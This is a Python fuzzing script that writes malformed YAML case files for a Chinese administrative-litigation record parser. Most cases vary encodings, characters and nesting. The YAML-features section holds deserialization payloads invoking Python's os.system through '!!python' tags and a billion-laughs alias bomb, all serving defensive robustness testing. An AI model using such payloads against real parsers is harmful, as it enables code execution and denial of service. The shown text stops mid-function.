"""Case files that no clerk writes on purpose, and some that every office meets in time.

    python tests/hostile/make_hostile.py DIR [--count 300]

A test takes them from `hostile_files`; the script lays them out as a workspace, with shapes of a directory
tree that only exist on disk. What is asked of the program is always the same: no crash, no second of
waiting, a message with a line wherever the file has one. Most files are one valid case, `VALID`, with one
thing wrong; everything is deterministic.
"""

from __future__ import annotations

import argparse
import contextlib
import os
import re
import sys
from collections.abc import Iterable, Iterator, Sequence
from itertools import chain, count, cycle, islice
from pathlib import Path
from random import Random

MEBIBYTE = 1 << 20
"""The most that a case file may hold."""
DEEP = 50_000

VALID = """\
# 测试用案件：几乎用到格式 1 的每一个键
格式: 1
案由: 责令退还非法占用土地
行为类别: 行政处罚
管理领域: 自然资源
名称: 张某诉县自然资源局责令退还非法占用土地案
系列案: 2025-某村征迁
公益诉讼: 否
承办单位: 县自然资源局
承办说明: 县政府会议指定
诉讼请求: 撤销德自然资罚〔2025〕3号处罚决定
赔偿数额: 30000
规范性文件附带审查: 否
责任人: {主要负责人: 林某, 分管领导: 陈某, 股室负责人: 黄某}
专班: {业务骨干: [黄某], 法制人员: [吴某], 法律顾问: [郑某]}

被诉行为:
  名称: 行政处罚决定
  文号: 德自然资罚〔2025〕3号
  机关: 县自然资源局
  承办部门: 县自然资源局
  收到申请日期: 2024-11-01
  延期答复: 否
  立案日期: 2024-11-20
  办案期限另有规定: 否
  作出日期: 2025-01-10
  送达日期: 2025-01-13
  重大: 是
  闽执法编号: 示例-0001
  法制审核:
    机构: 法规股
    审核人: 李某
    日期: 2025-01-08
    结论: 存在问题
    清单: {主体合法: 合格, 人员资格: 合格, 程序合法: 不合格, 事实清楚: 合格, 证据合法充分: 合格,
           适用法律准确: 合格, 裁量适当: 合格, 未超越职权: 合格, 文书规范: 合格, 涉罪移送: 不适用}
    听取意见: [{姓名: 郑某, 身份: 法律顾问, 意见: 应告知听证}]
  集体讨论日期: 2025-01-09
  听证: {告知日期: 2024-12-10, 通知日期: 2024-12-18, 举行日期: 2024-12-30}
  催告送达日期: 2025-02-01
  公示日期: 2025-01-16
  撤回公示日期: 2025-08-28
  执法记录: {现场笔录: 有, 影像资料: 有, 送达回执: 无}

复议: {机关: 县人民政府, 收到申请书副本: 2025-01-25, 答复日期: 2025-02-05, 结果: 维持, 决定日期: 2025-02-20, 文号: 德政行复〔2025〕2号}

原告: [{姓名: 张某, 类型: 公民}]
被告:
  - {单位: 县自然资源局, 地位: 原行为机关}
  - {单位: 县人民政府, 地位: 复议机关}
第三人: [{姓名: 某村村民委员会, 类型: 组织, 应追加未追加: 否}]

审理:
  - 审级: 一审
    案号: （2025）闽0583行初12号
    法院: 南安市人民法院
    程序: 普通程序
    立案日期: 2025-03-03
    收到应诉通知: 2025-03-06
    收到起诉状副本: 2025-03-06
    备案日期: 2025-03-07
    延期举证: {申请日期: 2025-03-15, 准许: 是, 事由消除日期: 2025-04-01}
    各被告:
      - 单位: 县人民政府
        收到应诉通知: 2025-03-07
        收到起诉状副本: 2025-03-07
        备案日期: 2025-03-10
        答辩日期: 2025-03-19
        举证日期: 2025-03-19
    中止: [{自: 2025-04-20, 至: 2025-05-08, 事由: 等待另案结果}]
    答辩日期: 2025-03-18
    举证日期: 2025-04-02
    出庭单位: [县自然资源局, 县人民政府]
    开庭:
      - 日期: 2025-05-12
        方式: 开庭
        时间: "09:00"
        地点: 第三法庭
        拟出庭: [{姓名: 王某, 单位: 县自然资源局, 职务: 副局长}]
        延期: {申请方: 被告, 准许: 是}
        拒绝说明: 否
        通知负责人出庭: 是
        通知再次出庭: 否
        到庭:
          - {姓名: 王某, 单位: 县自然资源局, 职务: 副局长, 身份: 副职负责人, 身份证明: 合格, 发声: 是, 中途退庭: 否}
          - {姓名: 吴某, 单位: 县自然资源局, 职务: 法规股股长, 身份: 工作人员}
          - {姓名: 郑某, 单位: 某律师事务所, 职务: 律师, 身份: 律师}
        未到庭说明:
          - {单位: 县人民政府, 负责人: 周某, 事由: 履行他人不能代替的公务, 说明: 防汛指挥, 盖章或签字: 是, 法院认可: 是}
    裁判:
      文书: 判决
      日期: 2025-05-20
      送达日期: 2025-05-26
      结果:
        - {单位: 县自然资源局, 结果: 撤销并责令重作, 败诉原因: [程序缺失], 说明: 未告知听证权利}
        - {单位: 县人民政府, 结果: 撤销, 败诉原因: [程序缺失]}
    上诉: [{上诉方: 被告, 单位: 县自然资源局, 日期: 2025-06-05}]
  - 审级: 二审
    案号: （2025）闽05行终34号
    法院: 泉州市中级人民法院
    立案日期: 2025-07-01
    收到应诉通知: 2025-07-03
    收到起诉状副本: 2025-07-03
    备案日期: 2025-07-04
    答辩日期: 2025-07-15
    裁判:
      文书: 判决
      日期: 2025-08-20
      送达日期: 2025-08-25
      生效日期: 2025-08-25
      审查结果: 维持
  - 审级: 再审审查
    案号: （2025）闽行申56号
    法院: 福建省高级人民法院
    立案日期: 2025-10-10
    裁判: {文书: 裁定, 日期: 2025-12-01, 送达日期: 2025-12-05, 审查结果: 驳回申请}

履行:
  - 案号: （2025）闽05行终34号
    单位: 县自然资源局
    内容: 重新作出处理决定
    期限: 2025-10-24
    完成日期: 2025-10-20
    中止: {自: 2025-09-01, 至: 2025-09-10, 事由: 补充测绘}
  - 案号: （2025）闽05行终34号
    单位: 县人民政府
    内容: 退还复议材料
    期限日数: 60
    起算: 2025-08-25
    终止: {日期: 2025-09-30, 事由: 执行和解}
来函:
  - {种类: 败诉风险提示函, 文号: 闽0583法提〔2025〕1号, 机关: 南安市人民法院, 单位: 县自然资源局, 针对: 其他, 收到日期: 2025-03-20,
     对接人: 吴某, 措施: [全面审查被诉行为], 完成期限: 2025-04-05, 回复期限: 2025-05-20, 回复日期: 2025-04-03,
     落实情况: 已落实, 落实日期: 2025-04-05}
自纠: [{单位: 县自然资源局, 日期: 2025-04-01, 方式: 补救补偿, 说明: 补充告知并听取意见}]
府院沟通: [{日期: 2025-03-25, 法院: 南安市人民法院, 方式: 座谈, 内容: 说明政策背景, 整改: 补充送达证据}]

败诉风险: 高
风险点:
  - {编号: JD-CX-03, 等级: 高, 发现日期: 2025-03-15, 说明: 未告知听证权利, 证据: 案卷第12页, 责任人: 黄某, 整改措施: 撤销重作,
     整改期限: 2025-04-01, 完成日期: 2025-04-01}
  - {阶段: 送达, 类型: 程序缺失, 说明: 留置送达无见证人}
复盘:
  日期: 2025-09-03
  主持人: 林某
  参加人: [陈某, 黄某, 吴某]
  事实认定: 事实清楚
  法律适用: 正确
  程序规范: 未告知听证权利
  出庭应诉: 副局长出庭并发言
  查摆问题: [未告知听证权利]
  败诉原因: [程序缺失]
  法律依据: [行政处罚法第六十三条]
  结论: 程序违法
  整改: [{措施: 修订告知书模板, 责任人: 吴某, 期限: 2025-10-31, 完成日期: 2025-10-20}]
  报送日期: 2025-09-08
典型案例: 是
材料: [{名称: 应诉通知书, 日期: 2025-03-06, 证明目的: 收到日期}]
豁免: [{规则: YS301, 理由: 法院书面准许, 批准人: 林某, 有效期至: 2025-12-31}]
"""
"""A valid case that uses nearly every key. It names no file, because none lies beside it."""

SETTINGS = "名称: 异常文件测试台账\n县政府: 县人民政府\n司法局: 县司法局\n"
UNITS = """\
- {单位: 县人民政府, 类别: 县政府}
- {单位: 县自然资源局, 全称: 德化县自然资源局, 类别: 县直部门}
- {单位: 县司法局, 类别: 县直部门}
"""

FIRST_NUMBER = "（2025）闽0583行初12号"

Piece = tuple[str, str | bytes]
"""A word on what is wrong, and the file; text is written as UTF-8, lone surrogates and all."""


def encoded(content: str | bytes) -> bytes:
    """Return the bytes of a file."""
    return content if isinstance(content, bytes) else content.encode("utf-8", "surrogatepass")


def numbered(what: str, contents: Iterable[str | bytes]) -> Iterator[Piece]:
    """Give each of many files of one kind its number."""
    for number, content in enumerate(contents, 1):
        yield f"{what}-{number:02d}", content


def swapped(old: str, new: str) -> str:
    """Return the valid case with one text replaced where it first stands."""
    if old not in VALID:
        raise ValueError(f"not in the valid case: {old!r}")
    return VALID.replace(old, new, 1)


def with_value(key: str, value: str) -> str:
    """Return the valid case with another value for a key that has a line of its own."""
    text, changed = re.subn(
        rf"(?m)^( *(?:- )?{key}:) .*$", lambda match: f"{match[1]} {value}", VALID, count=1
    )
    if not changed:
        raise ValueError(f"no line of its own: {key}")
    return text


def with_lines(lines: str) -> str:
    """Return the valid case with lines added at its end."""
    return f"{VALID}{lines}\n"


# ---------------------------------------------------------------------------------------------- bytes

CESU = b"\xed\xa0\xbd\xed\xb8\x80"
"""An emoji as two encoded surrogates, as some Java programs write it."""
MAGIC = {
    "png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01",
    "zip": b"PK\x03\x04\x14\x00\x00\x00\x08\x00",
    "docx": b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00[Content_Types].xml",
    "doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(24),
    "pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n",
    "gzip": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03",
    "sqlite": b"SQLite format 3\x00\x10\x00\x01\x01",
    "elf": b"\x7fELF\x02\x01\x01" + bytes(9),
    "lfs-pointer": b"version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 12345\n",
}


def encodings() -> Iterator[Piece]:
    """Yield the valid case in other encodings."""
    # UTF-16 and UTF-32 by name of the byte order come without a BOM; the BOM is put before by hand.
    for name in ("gbk", "gb18030", "big5", "utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be", "utf-7", "hz"):
        yield f"encoding-{name}", VALID.encode(name, "replace")
        if name.startswith("utf-") and name != "utf-7":
            yield f"encoding-{name}-bom", ("\ufeff" + VALID).encode(name)
            yield f"encoding-{name}-short", VALID.encode(name)[:-1]
    whole = VALID.encode()
    yield "bom-utf8", b"\xef\xbb\xbf" + whole
    yield "bom-utf8-twice", b"\xef\xbb\xbf" * 2 + whole
    yield "bom-only", b"\xef\xbb\xbf"
    yield "bom-utf16-only", b"\xff\xfe"
    yield "bom-utf16-then-utf8", b"\xff\xfe" + whole
    yield "bom-half", b"\xef\xbb" + whole
    yield "bom-between-lines", swapped("\n案由", "\n\ufeff案由")
    yield "bom-in-value", swapped("案由: 责", "案由: \ufeff责")
    yield "bom-at-end", VALID + "\ufeff"
    yield "gbk-line-in-utf8", whole.replace("案由: 责令".encode(), "案由: 责令".encode("gbk"), 1)
    yield "latin1-mojibake", whole.decode("latin-1")
    yield "utf8-twice", whole.decode("cp1252", "replace")
    yield "replacement-characters", swapped("案由: 责令", "案由: \ufffd\ufffd")


def broken_bytes() -> Iterator[Piece]:
    """Yield bytes that are no text, or not quite."""
    rng, whole = Random(1), VALID.encode()  # noqa: S311  repeatable, not secret
    at = whole.index("责令".encode())
    parts = {
        "cesu": CESU,
        "surrogate-high": b"\xed\xa0\x80",
        "surrogate-low": b"\xed\xbf\xbf",
        "overlong-slash": b"\xc0\xaf",
        "overlong-nul": b"\xc0\x80",
        "five-bytes": b"\xf8\x88\x80\x80\x80",
        "beyond-unicode": b"\xf4\x90\x80\x80",
        "ff": b"\xff",
        "fe": b"\xfe",
        "continuation": b"\x80\x80",
        "truncated": b"\xe8\xb4",
    }
    for name, part in parts.items():
        yield f"utf8-{name}", whole[:at] + part + whole[at:]
        yield f"utf8-{name}-at-end", whole + part
        yield f"utf8-{name}-alone", part
    yield "utf8-bad-after-a-megabyte", b"# " + b"x" * (MEBIBYTE - 64) + b"\n\xff\n"
    for name, head in MAGIC.items():
        yield f"magic-{name}", head + rng.randbytes(2048)
    yield from numbered("random-bytes", (rng.randbytes(size) for size in (1, 2, 3, 4, 64, 4096, 200_000)))
    yield from numbered("random-ascii", (bytes(rng.choices(range(32, 127), k=2000)) for _ in range(4)))
    yield from numbered(
        "random-indicators", ("".join(rng.choices("-?:,[]{}#&*!|>'\"%@` \n案号：", k=2000)) for _ in range(8))
    )
    yield "nul-bytes", bytes(1000)
    yield "nul-padded", whole + bytes(4096)
    yield "nul-megabyte", bytes(MEBIBYTE - 1)


def control_characters() -> Iterator[Piece]:
    """Yield the valid case with one character that YAML does not print, in a value and in a key."""
    codes = (
        0,
        1,
        7,
        8,
        0xB,
        0xC,
        0x1B,
        0x1F,
        0x7F,
        0x80,
        0x84,
        0x9F,
        0xFDD0,
        0xFFFE,
        0xFFFF,
        0x1FFFF,
        0x10FFFF,
    )
    for code in codes:
        yield f"character-{code:04x}-in-value", swapped("案由: 责令", f"案由: 责{chr(code)}令")
    for code in codes[:6]:
        yield f"character-{code:04x}-in-key", swapped("\n案由: ", f"\n案{chr(code)}由: ")
        yield f"character-{code:04x}-in-comment", swapped("# 测试", f"# {chr(code)}测试")
        yield f"character-{code:04x}-escaped", swapped("案由: 责令退还", f'案由: "\\x{code:02x}"  # 退还')
    escapes = (
        "\\ud800",
        "\\udfff",
        "\\uFFFF",
        "\\U00110000",
        "\\UFFFFFFFF",
        "\\0",
        "\\N\\_\\L\\P",
        "\\uD83D\\uDE00",
    )
    for number, escape in enumerate(escapes, 1):
        yield f"escape-{number}", with_value("案由", f'"责令{escape}"')


# ------------------------------------------------------------------------------------- whole documents


def whole_documents() -> Iterator[Piece]:
    """Yield files that are not one mapping."""
    documents = {
        "empty": "",
        "space": " ",
        "newline": "\n",
        "blanks": "  \n\n   \n",
        "tabs": "\t\t\n\t\n",
        "ideographic-spaces": "\u3000\u3000\n",
        "comments": "# 只有注释\n# 还是注释\n",
        "start": "---\n",
        "start-twice": "---\n---\n",
        "end": "...\n",
        "end-twice": "...\n...\n",
        "start-end": "---\n...\n",
        "two-documents": f"{VALID}---\n{VALID}",
        "second-empty": f"{VALID}---\n",
        "second-scalar": f"{VALID}--- 完\n",
        "after-end": f"{VALID}...\n案由: 又一件\n",
        "end-then-garbage": f"{VALID}... 完\n",
        "many-documents": "---\n格式: 1\n" * 2000,
        "list": "- 格式: 1\n- 案由: 甲\n",
        "flow-list": "[格式, 1]\n",
        "empty-list": "[]\n",
        "empty-mapping": "{}\n",
        "scalar": "张某诉县自然资源局\n",
        "quoted-scalar": '"格式: 1"\n',
        "literal": "|\n  格式: 1\n  案由: 甲\n",
        "folded": ">\n  格式: 1\n",
        "null": "null\n",
        "tilde": "~\n",
        "number": "1\n",
        "true": "true\n",
        "date": "2025-03-06\n",
        "json": '{"格式": 1, "案由": "甲", "原告": [{"姓名": "张某"}]}',
        "json-lines": '{"格式": 1}\n{"格式": 1}\n',
        "toml": '格式 = 1\n[被诉行为]\n名称 = "处罚"\n',
        "ini": "[案件]\n格式=1\n",
        "xml": '<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY a "aa">]>\n<x>&a;</x>\n',
        "csv": "案号,案由\n（2025）闽0583行初12号,甲\n",
        "markdown": "# 案件\n\n| 案号 | 案由 |\n|---|---|\n| 甲 | 乙 |\n",
        "python": "import os\nos.system('true')\n",
        "only-format": "格式: 1\n",
        "one-key-no-newline": "案由: 甲",
        "key-without-colon": "格式\n",
        "lone-colon": ":\n",
        "lone-dash": "-\n",
        "lone-question": "?\n",
        "lone-indicators": "&\n",
        "single-quote": "'\n",
        "indented": "".join(f"    {line}\n" for line in VALID.splitlines()),
        "one-line": VALID.replace("\n", " "),
        "no-spaces": VALID.replace(" ", ""),
        "reversed": "\n".join(reversed(VALID.splitlines())),
        "upside-down-text": VALID[::-1],
        "valid-twice": VALID * 2,
        "no-newline-at-end": VALID.rstrip() + " {",
        "git-diff": "\n".join(f"+{line}" for line in VALID.splitlines()),
        "mail-quoted": "\n".join(f"> {line}" for line in VALID.splitlines()),
        "line-numbers": "\n".join(f"{n} {line}" for n, line in enumerate(VALID.splitlines(), 1)),
    }
    for name, text in documents.items():
        yield f"document-{name}", text


def line_ends() -> Iterator[Piece]:
    """Yield the valid case with other ends of lines."""
    lines = VALID.splitlines()
    ends = {"crlf": "\r\n", "cr": "\r", "lfcr": "\n\r", "nel": "\x85", "ls": "\u2028", "ps": "\u2029"}
    ends |= {"vt": "\v", "ff": "\f", "crcrlf": "\r\r\n", "backslash-n": "\\n"}
    for name, end in ends.items():
        yield f"line-ends-{name}", end.join(lines) + end
    mixed = cycle(("\n", "\r\n", "\r"))
    yield "line-ends-mixed", "".join(line + next(mixed) for line in lines)
    for name, end in (("nel", "\x85"), ("ls", "\u2028"), ("ps", "\u2029"), ("cr", "\r")):
        yield f"break-{name}-in-value", swapped("案由: 责令", f"案由: 责{end}令")
        yield f"break-{name}-makes-a-key", swapped("案由: 责令", f"案由: 甲{end}承办人: 乙 责令")
        yield f"break-{name}-in-quotes", with_value("案由", f'"责{end}令"')
        yield f"break-{name}-in-comment", swapped("# 测试", f"# 测{end}试")
        yield (
            f"break-{name}-then-error",
            swapped("公益诉讼: 否", "公益诉讼: 也许").replace("责令", f"责{end}令", 1),
        )


SPACES = {
    "nbsp": "\xa0",
    "ideographic": "\u3000",
    "tab": "\t",
    "en": "\u2002",
    "thin": "\u2009",
    "narrow": "\u202f",
    "zero-width": "\u200b",
    "joiner": "\u200d",
    "word-joiner": "\u2060",
    "soft-hyphen": "\xad",
    "hangul-filler": "\u3164",
    "rtl-override": "\u202e",
    "rtl-mark": "\u200f",
    "isolate": "\u2067",
    "variation-selector": "\ufe0f",
    "tag-letter": "\U000e0041",
}


def spaces() -> Iterator[Piece]:
    """Yield the valid case with blanks that are not blanks, and characters that cannot be seen."""
    for name, space in SPACES.items():
        yield f"space-{name}-as-indent", swapped("\n  名称: 行政", f"\n{space}{space}名称: 行政")
        yield f"space-{name}-after-colon", swapped("\n案由: ", f"\n案由:{space}")
        yield f"space-{name}-in-key", swapped("\n案由: ", f"\n案{space}由: ")
        yield f"space-{name}-in-word", swapped("行为类别: 行政处罚", f"行为类别: 行政{space}处罚")
        yield f"space-{name}-after-value", swapped("审级: 一审\n", f"审级: 一审{space}\n")
        yield f"space-{name}-value", with_value("案由", space)
        yield f"space-{name}-in-number", swapped(FIRST_NUMBER, f"（2025）闽0583{space}行初12号")
        yield f"space-{name}-in-date", swapped("立案日期: 2025-03-03", f"立案日期: 2025-{space}03-03")
        yield (
            f"space-{name}-in-unit",
            swapped("- {单位: 县自然资源局, 地", f"- {{单位: 县自然{space}资源局, 地"),
        )
    yield "tab-indent-everywhere", VALID.replace("  ", "\t")
    yield "tab-in-flow", swapped("主要负责人: 林某, ", "主要负责人: 林某,\t")
    yield "tab-in-flow-after-colon", swapped("主要负责人: 林某", "主要负责人:\t林某")
    yield "tab-after-dash", swapped("  - 审级", "  -\t审级")
    yield "tab-before-comment", swapped("案由: 责令", "案由: 甲\t# 责令")
    yield "tab-line", swapped("\n案由", "\n\t\n案由")
    yield "indent-off-by-one", swapped("\n    法院: 南安", "\n     法院: 南安")
    yield "indent-less", swapped("\n    法院: 南安", "\n   法院: 南安")


FULL_WIDTH = {
    "：": "colon",
    "，": "comma",
    "［］": "brackets",
    "｛｝": "braces",
    "【】": "lenticular",
    "“”": "quotes",
    "‘’": "single-quotes",
    "＃": "hash",
    "－": "dash",
    "﹕": "small-colon",
    "︰": "vertical-colon",
    "∶": "ratio",
}


def full_width() -> Iterator[Piece]:
    """Yield what an input method leaves behind."""
    for marks, name in FULL_WIDTH.items():
        first, last = marks[0], marks[-1]
        narrow = {"：": ": ", "，": ", ", "＃": "# ", "－": "- "}.get(first, ": ")
        if len(marks) == 1:
            yield f"full-width-{name}-everywhere", VALID.replace(narrow, first)
            yield f"full-width-{name}-space-everywhere", VALID.replace(narrow, f"{first} ")
        else:
            yield f"full-width-{name}-lists", VALID.replace("[", first).replace("]", last)
            yield f"full-width-{name}-maps", VALID.replace("{", first).replace("}", last)
            yield f"full-width-{name}-value", with_value("案由", f"{first}责令{last}")
            yield f"full-width-{name}-open-only", swapped("业务骨干: [黄某]", f"业务骨干: {first}黄某]")
    forms = {
        "colon-alone": "案号：（2025）闽0583行初12号\n",
        "colon-two-lines": "格式：1\n案由：甲\n",
        "colon-first-line": swapped("格式: 1", "格式：1"),
        "colon-amid": swapped("\n案由: ", "\n案由："),
        "colon-nested": swapped("\n    法院: 南安", "\n    法院：南安"),
        "colon-after-dash": swapped("  - 审级: 一审", "  - 审级：一审"),
        "colon-block-parent": swapped("\n被诉行为:", "\n被诉行为："),
        "colon-in-flow": swapped("{主要负责人: 林某", "{主要负责人：林某"),
        "colon-last-line": with_lines("备注：完"),
        "colon-in-value": with_value("案由", "甲：乙"),
        "colon-in-comment": swapped("# 测试", "# 案由：测试"),
        "colon-in-literal": with_value("案由", "|\n  案由：甲\n  案号：乙"),
        "comma-in-flow": swapped("主要负责人: 林某, 分管", "主要负责人: 林某，分管"),
        "dun-in-list": swapped("参加人: [陈某, 黄某, 吴某]", "参加人: [陈某、黄某、吴某]"),
        "digits-everywhere": VALID.translate({48 + n: 0xFF10 + n for n in range(10)}),
        "no-space": swapped("\n案由: ", "\n案由:"),
    }
    yield from ((f"full-width-{name}", text) for name, text in forms.items())


# --------------------------------------------------------------------------------- features of YAML

BOMB = "甲: &a [哈, 哈, 哈, 哈, 哈, 哈, 哈, 哈, 哈]\n" + "".join(
    f"甲{b}: &{b} [{', '.join([f'*{a}'] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)
FEATURES = {
    "anchor-text": swapped("案由: 责令", "案由: &a 责令"),
    "anchor-map": swapped("责任人: {主", "责任人: &a {主"),
    "anchor-block": swapped("\n被诉行为:\n", "\n被诉行为: &act\n"),
    "anchor-key": swapped("\n案由: ", "\n&k 案由: "),
    "anchor-chinese": swapped("案由: 责令", "案由: &锚 责令"),
    "anchor-empty": swapped("案由: 责令", "案由: & 责令"),
    "anchor-twice": swapped("案由: 责令", "案由: &a &b 责令"),
    "alias": swapped("案由: 责令", "案由: &a 责令") + "备注: *a\n",
    "alias-undefined": with_value("案由", "*a"),
    "alias-empty": with_value("案由", "*"),
    "alias-key": with_lines("*a : 甲"),
    "alias-to-itself": with_lines("备注: &a [*a]"),
    "alias-map-to-itself": with_lines("备注: &a {甲: *a}"),
    "bold-markdown": with_value("案由", "**责令退还**"),
    "bomb": BOMB,
    "bomb-in-case": VALID + BOMB,
    "merge": with_lines("<<: {案由: 甲}"),
    "merge-alias": swapped("\n被诉行为:\n", "\n被诉行为: &act\n") + "<<: *act\n",
    "merge-list": with_lines("<<: [{案由: 甲}, {案由: 乙}]"),
    "merge-scalar": with_lines("<<: 甲"),
    "merge-nested": swapped("\n  名称: 行政", "\n  <<: {重大: 否}\n  名称: 行政"),
    "tag-python-apply": with_value("案由", "!!python/object/apply:os.system ['true']"),
    "tag-python-name": with_value("案由", "!!python/name:os.system"),
    "tag-python-module": with_lines("备注: !!python/module:antigravity"),
    "tag-python-new": with_lines("备注: !!python/object/new:tuple [[1]]"),
    "tag-binary": with_value("案由", "!!binary aGVsbG8="),
    "tag-binary-bad": with_value("案由", "!!binary 中"),
    "tag-set": with_value("参加人", "!!set {陈某, 黄某}"),
    "tag-omap": with_lines("备注: !!omap [甲: 1]"),
    "tag-pairs": with_lines("备注: !!pairs [甲: 1, 甲: 2]"),
    "tag-str": with_value("案由", "!!str 责令"),
    "tag-int": with_value("赔偿数额", '!!int "3"'),
    "tag-int-bad": with_value("赔偿数额", "!!int 三"),
    "tag-null": with_value("案由", "!!null ''"),
    "tag-bool": with_value("公益诉讼", "!!bool 否"),
    "tag-float": with_value("赔偿数额", "!!float .nan"),
    "tag-timestamp": with_value("作出日期", "!!timestamp 2025-02-30"),
    "tag-map-on-list": with_value("原告", "!!map [甲]"),
    "tag-local": with_value("案由", "!foo 责令"),
    "tag-verbatim": with_value("案由", "!<tag:yaml.org,2002:str> 责令"),
    "tag-verbatim-open": with_value("案由", "!<tag 责令"),
    "tag-only": with_value("案由", "!"),
    "tag-double": with_value("案由", "!!"),
    "tag-chinese": with_value("案由", "！重要"),
    "tag-on-key": with_lines("!!str 备注: 甲"),
    "tag-on-document": f"--- !!map\n{VALID}",
    "tag-undeclared": with_value("案由", "!e!foo 责令"),
    "directive-tag": f"%TAG !e! tag:example.com,2000:\n---\n{VALID}",
    "directive-tag-used": "%TAG ! tag:example.com,2000:\n---\n" + with_value("案由", "!foo 责令"),
    "directive-tag-secondary": "%TAG !! tag:yaml.org,2002:python/\n---\n"
    + with_value("案由", "!!name:os 甲"),
    "directive-yaml-1.1": f"%YAML 1.1\n---\n{VALID}",
    "directive-yaml-1.2": f"%YAML 1.2\n---\n{VALID}",
    "directive-yaml-2.0": f"%YAML 2.0\n---\n{VALID}",
    "directive-yaml-twice": f"%YAML 1.1\n%YAML 1.1\n---\n{VALID}",
    "directive-yaml-huge": f"%YAML 99999999999.1\n---\n{VALID}",
    "directive-unknown": f"%FOO 甲\n---\n{VALID}",
    "directive-no-document": "%YAML 1.1\n",
    "directive-in-middle": with_lines("%YAML 1.1\n---\n格式: 1"),
    "key-list": with_lines("? [甲, 乙]\n: 丙"),
    "key-flow-list": with_lines("[甲]: 乙"),
    "key-flow-map": with_lines("{}: 乙"),
    "key-block-map": with_lines("? 甲: 1\n  乙: 2\n: 丙"),
    "key-in-flow": with_lines("备注: {[甲]: 乙, {丙: 丁}: 戊}"),
    "key-explicit": with_lines("? 备注\n: 甲"),
    "key-explicit-no-value": with_lines("? 备注"),
    "key-null": with_lines("~: 甲"),
    "key-null-word": with_lines("null: 甲"),
    "key-empty": with_lines(": 甲"),
    "key-empty-quoted": with_lines('"": 甲'),
    "key-number": with_lines("1: 甲"),
    "key-float": with_lines("1.5: 甲"),
    "key-bool": with_lines("true: 甲"),
    "key-yes-no": with_lines("是: 甲\n否: 乙"),
    "key-date": with_lines("2025-03-06: 甲"),
    "key-literal": with_lines("? |\n  备注\n: 甲"),
    "key-quoted": swapped("\n案由: ", '\n"案由": '),
    "key-escaped": swapped("\n案由: ", '\n"\\u6848\\u7531": '),
    "key-escaped-twice": with_lines('"\\u6848\\u7531": 甲'),
    "key-nfd": with_lines("e\u0301: 甲\n\xe9: 乙"),
    "key-trailing-space": swapped("\n案由: ", "\n案由 : "),
    "key-leading-space": swapped("\n案由: ", '\n" 案由": '),
    "key-dunder": with_lines("__class__: 甲\n__dict__: {甲: 乙}"),
    "key-model-fields": with_lines("model_config: {extra: allow}\nmodel_fields_set: []"),
    "key-english": swapped("\n案由: ", "\ncause: "),
    "key-prototype": with_lines("constructor: 甲\n$ref: '#/x'"),
    "key-dotted": with_lines("被诉行为.名称: 甲\n审理[0].案号: 乙"),
    "key-terminal": with_lines('"\\e[31m红": 甲'),
    "key-newline": with_lines('"甲\\n乙": 丙'),
    "value-equals": with_value("案由", "="),
    "value-empty-quoted": with_value("案由", '""'),
    "value-literal": with_value("案由", "|\n  责令\n  退还"),
    "value-literal-keep": with_value("案由", "|+\n  责令\n\n\n"),
    "value-literal-indent": with_value("案由", "|9\n         责令"),
    "value-literal-zero": with_value("案由", "|0\n  责令"),
    "value-literal-bad": with_value("案由", "|x\n  责令"),
    "value-folded": with_value("案由", ">-\n  责令\n  退还"),
    "value-multi-line": with_value("案由", "责令\n  退还\n  土地"),
    "value-literal-date": with_value("作出日期", "|\n    2025-01-10"),
    "value-quoted-date": with_value("作出日期", '"2025-01-10\\n"'),
    "duplicate-top": with_lines("案由: 又一个"),
    "duplicate-top-same": swapped("\n案由: ", "\n格式: 1\n案由: "),
    "duplicate-block": with_lines("被诉行为: {名称: 甲}"),
    "duplicate-nested": swapped("\n  机关: 县", "\n  名称: 又一个\n  机关: 县"),
    "duplicate-flow": swapped("{姓名: 张某,", "{姓名: 张某, 姓名: 李某,"),
    "duplicate-number-key": swapped("\n    法院: 南安", f"\n    案号: {FIRST_NUMBER}\n    法院: 南安"),
    "duplicate-number-other": swapped(
        "\n    法院: 南安", "\n    案号: （2025）闽0583行初13号\n    法院: 南安"
    ),
    "duplicate-null-key": with_lines("~: 甲\nnull: 乙"),
    "duplicate-quoted": with_lines('"案由": 又一个'),
    "duplicate-thousand": VALID + "案由: 又\n" * 1000,
}


def features() -> Iterator[Piece]:
    """Yield what YAML can do and a record must not."""
    return ((f"yaml-{name}", text) for name, text in FEATURES.items())


# -------------------------------------------------------------------------------------- depth and size


def depth() -> Iterator[Piece]:
    """Yield files that are deeper than any stack."""
    openings = {
        "lists": "[",
        "maps": "{a: ",
        "mixed": "[{a: ",
        "dashes": "- ",
        "questions": "? ",
        "explicit": "? - ",
        "braces": "{",
        "question-braces": "{? ",
        "chinese": "{案由: ",
        "tags": "!a [",
        "anchors": "&a [",
        "colons": ": ",
    }
    for name, opening in openings.items():
        yield f"depth-{name}", opening * DEEP
        yield f"depth-{name}-in-value", f"{VALID}备注: {opening * DEEP}\n"
    yield "depth-lists-closed", "[" * DEEP + "]" * DEEP
    yield "depth-maps-closed", "{a: " * DEEP + "1" + "}" * DEEP
    yield "depth-lists-over-lines", "[\n" * DEEP + "]\n" * DEEP
    yield "depth-closings", "]" * DEEP
    yield "depth-indent", "".join(f"{' ' * level}a:\n" for level in range(1400))
    yield "depth-indent-dashes", "".join(f"{' ' * level}-\n" for level in range(1400))
    yield "depth-lists-1000", f"{VALID}备注: {'[' * 1000}{']' * 1000}\n"
    for levels in (*range(28, 36), 64, 100, 255, 256):
        yield f"depth-{levels}", with_value("案由", "[" * levels + "]" * levels)
    yield "depth-quotes", "'" * DEEP
    yield "depth-double-quotes", '"' * (DEEP + 1)
    yield "depth-python-limit", with_value("参加人", "[" * 999 + "甲" + "]" * 999)


def filled(text: str, size: int) -> bytes:
    """Return a text made so many bytes long by a comment at its end."""
    body = text.encode()
    return body + b"#" + b"x" * (size - len(body) - 2) + b"\n"


def repeated(head: str, item: str, tail: str = "") -> str:
    """Return as many items as go into a file of nearly the greatest size."""
